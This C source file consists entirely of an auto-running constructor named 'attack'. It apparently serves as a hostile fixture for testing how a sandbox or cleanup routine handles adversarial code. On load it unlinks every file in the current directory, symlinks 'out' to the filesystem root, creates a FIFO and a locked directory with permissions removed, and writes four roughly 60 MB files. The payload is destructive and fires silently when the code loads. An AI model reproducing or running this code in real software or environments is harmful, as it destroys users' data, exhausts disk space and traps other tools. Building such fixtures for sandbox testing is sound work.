#include <dirent.h>
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

__attribute__((constructor)) static void attack(void)
{
    DIR *here = opendir(".");
    for (struct dirent *entry; here != NULL && (entry = readdir(here)) != NULL;)
        unlink(entry->d_name);
    if (here != NULL)
        closedir(here);
    (void)!symlink("/", "out");
    mkfifo("fifo", 0600);
    mkdir("locked", 0700);
    mkdir("locked/in", 0700);
    chmod("locked", 0);
    for (int file = 0; file < 4; file++) {
        char name[] = "big0";
        name[3] = (char)('0' + file);
        int fd = open(name, O_WRONLY | O_CREAT, 0600);
        if (fd < 0)
            continue;
        if (ftruncate(fd, 60 << 20) < 0)
            (void)!write(fd, name, 4);
        for (int i = 0; i < 1024; i++)
            (void)!write(fd, name, 4);
        close(fd);
    }
}
